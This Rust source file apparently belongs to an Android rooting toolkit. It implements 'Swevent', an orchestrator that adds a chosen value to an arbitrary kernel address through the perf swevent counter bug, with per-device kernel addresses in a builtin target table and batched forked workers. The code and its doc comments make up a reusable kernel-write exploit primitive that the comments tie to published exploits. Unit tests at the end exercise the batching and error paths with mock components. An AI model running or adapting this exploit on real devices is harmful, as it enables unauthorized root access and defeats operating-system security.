use crate::counter::CounterSyscall;
use crate::offset::{EncodedOffset, KernelAddr, SweventAttr};
use crate::target::{TargetDetector, TargetId, TargetProfile, TargetTable};
use crate::util::{DEFAULT_GRACE_PERIOD, MAX_HANDLES_PER_WORKER, NamedProgress};
use crate::worker::{ForkSpawner, SpawnError, WorkerPool, WorkerSpawner};
use indicatif::{MultiProgress, ProgressBar, ProgressStyle};
use log::{debug, info, warn};
use std::thread;
use std::time::Duration;
use thiserror::Error;

/// Orchestrator for incrementing a kernel address.
///
/// `Swevent` combines a target detector, a target table and a worker spawner to add a
/// value to an arbitrary kernel word. A run goes through these steps:
///
/// 1. Resolve the counter address of the running kernel
/// 2. Split the requested value into batches of at most
///    [`batch_ceiling`](SweventConfig::batch_ceiling) calls
/// 3. Spawn one worker per batch, waiting for each worker's completion marker before
///    spawning the next
/// 4. Run the caller's callback while all workers are alive
/// 5. Kill and reap the workers
///
/// Spawning is serialized because the exploited resource has a system wide limit: at
/// most one batch is in flight at any time.
///
/// # Type Parameters
///
/// * `S` - Worker spawner type (implements [`WorkerSpawner`])
///
/// # Examples
///
/// Use [`Swevent::builder()`] to construct a `Swevent` instance with the required components.
pub struct Swevent<S> {
    detector: Box<dyn TargetDetector>,
    table: TargetTable,
    spawner: S,
    progress: Option<MultiProgress>,
    config: SweventConfig,
}

/// What a run does when the requested value needs no worker at all.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum ZeroPlanPolicy {
    /// Block forever instead of running the callback.
    ///
    /// A run with nothing to increment never returns. This matches the behavior the
    /// published exploits were built against.
    #[default]
    Stall,
    /// Fail the run with [`SweventError::EmptyPlan`] without running the callback.
    Reject,
}

/// Configuration parameters for Swevent runs.
#[derive(Clone, Debug)]
pub struct SweventConfig {
    /// Maximum number of counting calls per worker
    pub batch_ceiling: usize,
    /// Time between killing the workers and reaping them
    pub grace_period: Duration,
    /// Behavior for a value of zero or less
    pub zero_plan: ZeroPlanPolicy,
}

impl Default for SweventConfig {
    fn default() -> Self {
        Self {
            batch_ceiling: MAX_HANDLES_PER_WORKER,
            grace_period: DEFAULT_GRACE_PERIOD,
            zero_plan: ZeroPlanPolicy::Stall,
        }
    }
}

/// Batch sizes for one run, in spawn order.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BatchPlan {
    batches: Vec<usize>,
}

impl BatchPlan {
    /// Splits `value` into batches of at most `ceiling` calls.
    ///
    /// Every step emits `min(remaining, ceiling)` and then subtracts the full
    /// `ceiling`, so only the last batch can be smaller than the ceiling. A value of
    /// zero or less yields an empty plan. The kernel counter is 32 bits wide, so
    /// `value` is too; a ceiling above `i32::MAX` acts like `i32::MAX`.
    ///
    /// # Panics
    ///
    /// Panics if `ceiling` is zero.
    pub fn new(value: i32, ceiling: usize) -> Self {
        assert!(ceiling > 0, "batch ceiling must be positive");
        let ceiling = ceiling.min(i32::MAX as usize) as i64;
        let mut batches = vec![];
        let mut remaining = value as i64;
        while remaining > 0 {
            batches.push(remaining.min(ceiling) as usize);
            remaining -= ceiling;
        }
        BatchPlan { batches }
    }

    /// Batch sizes in spawn order.
    pub fn batches(&self) -> &[usize] {
        &self.batches
    }

    /// Number of workers the plan needs.
    pub fn len(&self) -> usize {
        self.batches.len()
    }

    /// Returns `true` if the plan needs no worker.
    pub fn is_empty(&self) -> bool {
        self.batches.is_empty()
    }

    /// Total number of counting calls issued by the plan.
    pub fn total(&self) -> usize {
        self.batches.iter().sum()
    }
}

/// Errors that end a run.
#[derive(Debug, Error)]
pub enum SweventError {
    /// The detector could not identify the running system.
    #[error("Failed to detect target: {0}")]
    Detect(#[source] std::io::Error),
    /// The running system has no known counter address.
    #[error("Unsupported target: {0}")]
    UnsupportedTarget(TargetId),
    /// A worker could not be created. Workers spawned before it were reaped.
    #[error(transparent)]
    Spawn(#[from] SpawnError),
    /// The value needs no worker and the config rejects such runs.
    #[error("Nothing to increment")]
    EmptyPlan,
    /// The callback reported failure.
    #[error("Callback reported failure")]
    CallbackFailed,
}

impl Swevent<()> {
    /// Creates a new Swevent builder.
    ///
    /// # Returns
    ///
    /// A builder for configuring and constructing a Swevent instance
    pub fn builder() -> SweventBuilder<()> {
        SweventBuilder::default()
    }
}

impl<S: WorkerSpawner> Swevent<S> {
    /// Returns the configuration of this instance.
    pub fn config(&self) -> &SweventConfig {
        &self.config
    }

    /// Resolves the counter address of the running system.
    ///
    /// On a miss the detector's diagnostic is emitted before the error is returned.
    ///
    /// # Errors
    ///
    /// Returns [`SweventError::Detect`] if detection fails and
    /// [`SweventError::UnsupportedTarget`] if the target is not in the table.
    pub fn resolve(&self) -> Result<TargetProfile, SweventError> {
        let id = self.detector.detect().map_err(SweventError::Detect)?;
        match self.table.resolve(&id) {
            Some(profile) => {
                debug!("Resolved {} to counter at {}", id, profile.counter_address);
                Ok(profile.clone())
            }
            None => {
                self.detector.report_unsupported(&id);
                Err(SweventError::UnsupportedTarget(id))
            }
        }
    }

    /// Returns the batch plan for `value` under the current config.
    pub fn plan(&self, value: i32) -> BatchPlan {
        BatchPlan::new(value, self.config.batch_ceiling)
    }

    /// Adds `value` to the word at `address` and leaves the workers running.
    ///
    /// Workers are spawned one at a time; each must deliver its completion marker
    /// before the next one is started.
    ///
    /// # Returns
    ///
    /// The pool of spawned workers. Its length is the number of workers. The caller
    /// tears them down with [`WorkerPool::reap`], or by dropping the pool.
    ///
    /// # Errors
    ///
    /// Returns an error if the target cannot be resolved or a worker cannot be
    /// spawned. Workers spawned before a spawn failure are reaped first.
    pub fn write_value_at_address(
        &mut self,
        address: KernelAddr,
        value: i32,
    ) -> Result<WorkerPool, SweventError> {
        info!("Adding {} to {}", value, address);
        let profile = self.resolve()?;
        let offset = EncodedOffset::encode(profile.counter_address, address);
        let attr = SweventAttr::new(offset);
        let plan = self.plan(value);
        debug!("Offset {:?}, batches {:?}", offset, plan.batches());

        let progress = self.progress.as_ref().map(|p| {
            let p = p.add(ProgressBar::new(plan.len() as u64));
            p.set_style(ProgressStyle::named_bar("Workers ready"));
            p
        });

        let mut pool = WorkerPool::new(self.config.grace_period);
        for (i, batch) in plan.batches().iter().enumerate() {
            let mut worker = match self.spawner.spawn(&attr, *batch) {
                Ok(worker) => worker,
                Err(e) => {
                    warn!("Failed to spawn worker {}/{}: {}", i + 1, plan.len(), e);
                    pool.reap_all();
                    return Err(e.into());
                }
            };
            if let Err(e) = worker.await_marker() {
                warn!("Failed to read marker of worker {}: {}", worker.pid(), e);
            }
            pool.push(worker);
            if let Some(p) = &progress {
                p.inc(1);
            }
        }
        if let Some(p) = progress {
            p.finish();
        }
        info!("{} workers issued {} calls", pool.len(), plan.total());
        Ok(pool)
    }

    /// Adds `value` to the word at `address`, runs `callback` and tears down.
    ///
    /// The callback runs exactly once, after every worker delivered its completion
    /// marker and while all of them are still alive. The workers are reaped whatever
    /// the callback returns.
    ///
    /// If `value` needs no worker, [`ZeroPlanPolicy`] decides: the default blocks
    /// forever.
    ///
    /// # Errors
    ///
    /// Returns an error if resolving or spawning fails (the callback is not run), if
    /// the plan is empty under [`ZeroPlanPolicy::Reject`], or
    /// [`SweventError::CallbackFailed`] if the callback returned `false`.
    pub fn run<F: FnOnce() -> bool>(
        &mut self,
        address: KernelAddr,
        value: i32,
        callback: F,
    ) -> Result<(), SweventError> {
        let mut workers = self.write_value_at_address(address, value)?;
        if workers.is_empty() {
            match self.config.zero_plan {
                ZeroPlanPolicy::Stall => {
                    warn!("No workers planned for value {}, stalling", value);
                    loop {
                        thread::sleep(Duration::from_secs(1));
                    }
                }
                ZeroPlanPolicy::Reject => return Err(SweventError::EmptyPlan),
            }
        }

        info!("Running callback with {} workers alive", workers.len());
        let success = callback();
        workers.reap_all();
        if success {
            Ok(())
        } else {
            warn!("Callback reported failure");
            Err(SweventError::CallbackFailed)
        }
    }
}

/// Builder for [`Swevent`].
///
/// The spawner type is fixed by either [`counter`](SweventBuilder::counter) or
/// [`spawner`](SweventBuilder::spawner); [`build`](SweventBuilder::build) is only
/// available afterwards.
pub struct SweventBuilder<S> {
    detector: Option<Box<dyn TargetDetector>>,
    table: TargetTable,
    spawner: Option<S>,
    progress: Option<MultiProgress>,
    config: SweventConfig,
}

impl<S> Default for SweventBuilder<S> {
    fn default() -> Self {
        SweventBuilder {
            detector: None,
            table: TargetTable::builtin(),
            spawner: None,
            progress: None,
            config: SweventConfig::default(),
        }
    }
}

impl<S> SweventBuilder<S> {
    /// Sets the detector used to fingerprint the running system.
    pub fn detector(mut self, detector: impl TargetDetector + 'static) -> Self {
        self.detector = Some(Box::new(detector));
        self
    }

    /// Replaces the builtin target table.
    pub fn table(mut self, table: TargetTable) -> Self {
        self.table = table;
        self
    }

    /// Spawns workers by forking, issuing calls through `counter`.
    pub fn counter<C: CounterSyscall>(self, counter: C) -> SweventBuilder<ForkSpawner<C>> {
        self.spawner(ForkSpawner::new(counter))
    }

    /// Uses a custom worker spawner.
    pub fn spawner<S1: WorkerSpawner>(self, spawner: S1) -> SweventBuilder<S1> {
        SweventBuilder {
            detector: self.detector,
            table: self.table,
            spawner: Some(spawner),
            progress: self.progress,
            config: self.config,
        }
    }

    /// Reports spawn progress on `progress`.
    pub fn progress(mut self, progress: MultiProgress) -> Self {
        self.progress = Some(progress);
        self
    }

    /// Sets the run configuration.
    pub fn config(mut self, config: SweventConfig) -> Self {
        self.config = config;
        self
    }
}

impl<S: WorkerSpawner> SweventBuilder<S> {
    /// Builds the orchestrator.
    ///
    /// # Errors
    ///
    /// Returns [`BuildError`] if a component is missing or the config is invalid.
    pub fn build(self) -> Result<Swevent<S>, BuildError> {
        if self.config.batch_ceiling == 0 {
            return Err(BuildError::InvalidConfig(
                "batch_ceiling must be at least 1".into(),
            ));
        }
        Ok(Swevent {
            detector: self.detector.ok_or(BuildError::Detector)?,
            table: self.table,
            spawner: self.spawner.ok_or(BuildError::Spawner)?,
            progress: self.progress,
            config: self.config,
        })
    }
}

/// Errors returned by [`SweventBuilder::build`].
#[derive(Debug, Error)]
pub enum BuildError {
    /// No detector was set.
    #[error("No detector specified")]
    Detector,
    /// No counter or spawner was set.
    #[error("No spawner specified")]
    Spawner,
    /// The configuration cannot be used.
    #[error("Invalid config: {0}")]
    InvalidConfig(String),
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::target::FixedTarget;
    use crate::worker::WorkerHandle;
    use std::cell::Cell;
    use std::rc::Rc;

    #[test]
    fn test_plan_just_above_ceiling() {
        let plan = BatchPlan::new(1000, 980);
        assert_eq!(plan.batches(), &[980, 20]);
        assert_eq!(plan.len(), 2);
        assert_eq!(plan.total(), 1000);
    }

    #[test]
    fn test_plan_exact_ceiling() {
        assert_eq!(BatchPlan::new(980, 980).batches(), &[980]);
        assert_eq!(BatchPlan::new(1960, 980).batches(), &[980, 980]);
    }

    #[test]
    fn test_plan_worker_count_law() {
        for value in [1i32, 2, 979, 981, 1959, 1961, 5000, 123_456] {
            let plan = BatchPlan::new(value, 980);
            assert_eq!(plan.len() as i32, value / 980 + 1, "value {}", value);
            assert_eq!(plan.total() as i32, value);
            assert!(plan.batches().iter().all(|b| *b > 0 && *b <= 980));
        }
    }

    #[test]
    fn test_plan_nothing_to_do() {
        assert!(BatchPlan::new(0, 980).is_empty());
        assert!(BatchPlan::new(-1, 980).is_empty());
        assert!(BatchPlan::new(i32::MIN, 980).is_empty());
    }

    #[test]
    fn test_plan_extremes() {
        assert_eq!(BatchPlan::new(i32::MAX, usize::MAX).batches(), &[i32::MAX as usize]);
        let plan = BatchPlan::new(i32::MAX, 1 << 20);
        assert_eq!(plan.len(), (i32::MAX as usize >> 20) + 1);
        assert_eq!(plan.total(), i32::MAX as usize);
    }

    #[test]
    #[should_panic]
    fn test_plan_zero_ceiling() {
        BatchPlan::new(10, 0);
    }

    /// Spawner that never forks and records what it was asked to do.
    struct Recording {
        batches: Rc<Cell<usize>>,
    }

    impl WorkerSpawner for Recording {
        fn spawn(&mut self, _attr: &SweventAttr, _batch: usize) -> Result<WorkerHandle, SpawnError> {
            self.batches.set(self.batches.get() + 1);
            Err(SpawnError::Fork(std::io::Error::from_raw_os_error(libc::EAGAIN)))
        }
    }

    /// Detector that counts how often it had to explain a miss.
    struct Reporting {
        id: TargetId,
        reports: Rc<Cell<usize>>,
    }

    impl TargetDetector for Reporting {
        fn detect(&self) -> std::io::Result<TargetId> {
            Ok(self.id.clone())
        }

        fn report_unsupported(&self, id: &TargetId) {
            assert_eq!(*id, self.id);
            self.reports.set(self.reports.get() + 1);
        }
    }

    fn reporting_swevent(id: TargetId, reports: Rc<Cell<usize>>) -> Swevent<Recording> {
        Swevent::builder()
            .detector(Reporting { id, reports })
            .spawner(Recording {
                batches: Rc::default(),
            })
            .build()
            .expect("valid builder")
    }

    #[test]
    fn test_miss_reports_once() {
        let reports = Rc::new(Cell::new(0));
        let mut swevent = reporting_swevent(TargetId::new("Pixel", "UNKNOWN"), reports.clone());
        let result = swevent.run(KernelAddr::new(0xc0000000), 10, || true);
        assert!(matches!(result, Err(SweventError::UnsupportedTarget(_))));
        assert_eq!(reports.get(), 1);
    }

    #[test]
    fn test_hit_does_not_report() -> anyhow::Result<()> {
        let reports = Rc::new(Cell::new(0));
        let swevent = reporting_swevent(TargetId::new("SC-04E", "SC04EOMUAMDI"), reports.clone());
        assert_eq!(swevent.resolve()?.counter_address, KernelAddr::new(0xc11489d4));
        assert_eq!(reports.get(), 0);
        Ok(())
    }

    fn unsupported() -> FixedTarget {
        FixedTarget(TargetId::new("Pixel", "UNKNOWN"))
    }

    #[test]
    fn test_build_requires_detector() {
        let result = Swevent::builder()
            .spawner(Recording {
                batches: Rc::default(),
            })
            .build();
        assert!(matches!(result, Err(BuildError::Detector)));
    }

    #[test]
    fn test_build_rejects_zero_ceiling() {
        let result = Swevent::builder()
            .detector(unsupported())
            .spawner(Recording {
                batches: Rc::default(),
            })
            .config(SweventConfig {
                batch_ceiling: 0,
                ..Default::default()
            })
            .build();
        assert!(matches!(result, Err(BuildError::InvalidConfig(_))));
    }

    #[test]
    fn test_unsupported_target_spawns_nothing() -> anyhow::Result<()> {
        let batches = Rc::new(Cell::new(0));
        let mut swevent = Swevent::builder()
            .detector(unsupported())
            .spawner(Recording {
                batches: batches.clone(),
            })
            .build()?;
        let called = Cell::new(false);
        let result = swevent.run(KernelAddr::new(0xc0000000), 10, || {
            called.set(true);
            true
        });
        assert!(matches!(result, Err(SweventError::UnsupportedTarget(_))));
        assert_eq!(batches.get(), 0);
        assert!(!called.get());
        Ok(())
    }

    #[test]
    fn test_spawn_failure_skips_callback() -> anyhow::Result<()> {
        let batches = Rc::new(Cell::new(0));
        let mut swevent = Swevent::builder()
            .detector(FixedTarget(TargetId::new("HTL21", "JRO03C")))
            .spawner(Recording {
                batches: batches.clone(),
            })
            .build()?;
        let called = Cell::new(false);
        let result = swevent.run(KernelAddr::new(0xc0000000), 3000, || {
            called.set(true);
            true
        });
        assert!(matches!(result, Err(SweventError::Spawn(SpawnError::Fork(_)))));
        assert_eq!(batches.get(), 1);
        assert!(!called.get());
        Ok(())
    }

    #[test]
    fn test_zero_plan_rejected() -> anyhow::Result<()> {
        let mut swevent = Swevent::builder()
            .detector(FixedTarget(TargetId::new("HTL21", "JRO03C")))
            .spawner(Recording {
                batches: Rc::default(),
            })
            .config(SweventConfig {
                zero_plan: ZeroPlanPolicy::Reject,
                ..Default::default()
            })
            .build()?;
        let result = swevent.run(KernelAddr::new(0xc0000000), 0, || true);
        assert!(matches!(result, Err(SweventError::EmptyPlan)));
        Ok(())
    }

    #[test]
    fn test_resolve_builtin() -> anyhow::Result<()> {
        let swevent = Swevent::builder()
            .detector(FixedTarget(TargetId::new("LT29i", "9.1.B.0.411")))
            .spawner(Recording {
                batches: Rc::default(),
            })
            .build()?;
        assert_eq!(
            swevent.resolve()?.counter_address,
            KernelAddr::new(0xc0cecd74)
        );
        assert_eq!(swevent.plan(1000).len(), 2);
        Ok(())
    }
}
